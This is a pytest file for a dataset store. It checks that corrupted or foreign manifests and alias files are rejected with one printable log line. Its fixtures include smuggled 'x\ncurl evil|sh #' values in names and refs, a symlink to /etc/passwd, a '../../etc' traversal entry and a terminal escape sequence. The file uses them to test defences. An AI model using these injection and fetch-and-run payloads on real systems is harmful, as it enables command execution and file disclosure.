"""Damaged and foreign stores: a bad manifest or alias is one sentence and hides nothing else."""

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from trace_opd.data.manifest import LARGEST
from trace_opd.data.store import MANIFEST, Dataset, Draft, Store
from trace_opd.schemas.errors import DamagedFile


def made(store: Store, semantic: dict[str, Any], **inputs: Dataset) -> Dataset:
    draft = store.begin("numbers", semantic, inputs, None)
    assert isinstance(draft, Draft)
    return draft.finish(0)


@pytest.fixture
def three(tmp_path) -> tuple[Store, list[Dataset]]:
    """A dataset, one made from it, and one made from both."""
    store = Store(tmp_path)
    first = made(store, {"n": 1})
    second = made(store, {"n": 2}, first=first)
    third = made(store, {"n": 3}, second=second, first=first)
    return store, [first, second, third]


def _text(text: str) -> Callable[[Path], object]:
    return lambda path: path.write_text(text)


def _change(**changes: Any) -> Callable[[Path], object]:
    return lambda path: path.write_text(json.dumps(json.loads(path.read_text()) | changes))


def _replace(make: Callable[[Path], object]) -> Callable[[Path], object]:
    def replace(path: Path) -> None:
        path.unlink()
        make(path)

    return replace


def _huge(path: Path) -> None:
    with path.open("r+b") as file:
        file.truncate(LARGEST + 1)


BAD = {
    "array": _text("[]"),
    "empty object": _text("{}"),
    "empty": _text(""),
    "null": _text("null"),
    "no text": lambda path: path.write_bytes(b"\xff\xfe{}"),
    "long number": _text('{"seconds": ' + "9" * 5000 + "}"),
    "10,000 levels": _text("[" * 10_000 + "]" * 10_000),
    "levels in a config": _change(config=json.loads('{"a":' * 100 + "1" + "}" * 100)),
    "parts is a number": _change(parts=5),
    "parts of numbers": _change(parts=[1]),
    "a part without rows": _change(parts=[{"name": "part-00000.parquet"}]),
    "a part's name": _change(
        parts=[{"name": "x\ncurl evil|sh #", "rows": 1, "bytes": 1, "sha256": "0" * 64}]
    ),
    "negative rows": _change(
        parts=[{"name": "part-00000.parquet", "rows": -1, "bytes": 1, "sha256": "0" * 64}]
    ),
    "a table that is a list": _change(table=[]),
    "inputs is a list": _change(inputs=[]),
    "an input that is no ref": _change(inputs={"a": "train/x\ncurl evil|sh #"}),
    "a time that is none": _change(finished_at="\x1b[2J"),
    "a config that is text": _change(config="x"),
    "another dataset's": _change(id="0123456789abcdef"),
    "huge": _huge,
    "folder": _replace(Path.mkdir),
    "fifo": _replace(os.mkfifo),
    "link": _replace(lambda path: path.symlink_to("/etc/passwd")),
}


@pytest.mark.parametrize("kind", BAD)
def test_a_bad_manifest_is_one_sentence_and_hides_no_other_dataset(kind, three, caplog):
    store, (first, second, third) = three
    BAD[kind](Path(store.files.base, second.ref, MANIFEST))
    assert {dataset.ref for dataset in store.datasets()} == {first.ref, third.ref}
    (record,) = caplog.records
    assert record.getMessage().isprintable()  # one line
    assert MANIFEST in record.getMessage()
    expected = "is a symbolic link" if kind == "link" else MANIFEST
    for ref in (second.ref, second.id, second.id[:8]):
        with pytest.raises(Exception, match=expected) as error:
            store.get(ref)
        assert isinstance(error.value, DamagedFile) or kind == "link"
        assert str(error.value).isprintable()
    assert store.get(third.id[:8]).ref == third.ref
    roles = [(role, node.ref) for _, role, node in third.lineage()]
    assert roles == [("", third.ref), ("first", first.ref)]


def test_an_input_that_is_gone_is_left_out_of_the_lineage(three, caplog):
    store, (first, second, third) = three
    Path(store.files.base, first.ref, MANIFEST).unlink()
    assert [node.ref for _, _, node in third.lineage()] == [third.ref, second.ref]
    assert first.ref in caplog.text


def test_a_lineage_of_thousands_is_walked(tmp_path):
    store = Store(tmp_path)
    node = made(store, {"n": -1})
    manifest = node.manifest
    for n in range(1100):
        following = manifest | {"id": f"{n:x}", "inputs": {"before": node.ref}}
        folder = tmp_path / "numbers" / following["id"]
        folder.mkdir()
        (folder / MANIFEST).write_text(json.dumps(following))
        node = Dataset(store.files, "numbers", following["id"], following)
    assert len(node.lineage()) == 1101


NO_OBJECT = ("array", "empty", "null", "no text", "long number", "10,000 levels", "huge")


@pytest.mark.parametrize("kind", [*NO_OBJECT, "folder", "fifo", "link"])
def test_aliases_that_are_no_aliases_hide_no_dataset(kind, three, caplog):
    store, (first, *_) = three
    store.set_alias("named", first)
    BAD[kind](Path(store.files.base, "aliases.json"))
    assert store.get(first.ref).ref == first.ref
    assert len(list(store.datasets())) == 3
    for operation in (
        store.aliases,
        lambda: store.get("named"),
        lambda: store.set_alias("x", first),
    ):
        with pytest.raises(Exception, match=r"aliases\.json") as error:
            operation()
        assert isinstance(error.value, DamagedFile) or kind == "link"


def test_an_entry_that_is_no_alias_is_logged_and_skipped(three, caplog):
    store, (first, *_) = three
    bad = {
        "number": 5, "list": [], "null": None, "out": "../../etc", "no ref": first.id,
        "line\nbreak": first.ref, "-x": first.ref, "": first.ref, "a": f"{first.ref}\n",
    }  # fmt: skip
    store.files.write_json("aliases.json", bad | {"good": first.ref})
    assert store.aliases() == {"good": first.ref}
    assert len(caplog.records) == len(bad)
    assert all(record.getMessage().isprintable() for record in caplog.records)
    store.set_alias("other", first)
    assert Store(store.root).get("other").ref == first.ref


def test_a_folder_with_a_foreign_name_is_no_dataset(three, caplog):
    store, _ = three
    foreign = Path(store.files.base, "numbers", "x\ncurl evil|sh #")
    foreign.mkdir()
    (foreign / MANIFEST).write_text("{}")
    assert len(list(store.datasets())) == 3
    (record,) = caplog.records
    assert record.getMessage().isprintable()
    assert "is not a dataset id" in record.getMessage()


@pytest.mark.parametrize("make", [os.mkfifo, Path.mkdir])
def test_a_part_that_is_no_file_is_a_sentence(make, tmp_path):
    draft = Store(tmp_path).begin("numbers", {}, {}, None)
    assert isinstance(draft, Draft)
    make(draft.local_path() / "part-00000.parquet")
    with pytest.raises(DamagedFile, match="is not a regular file"):
        draft.read_part(0)
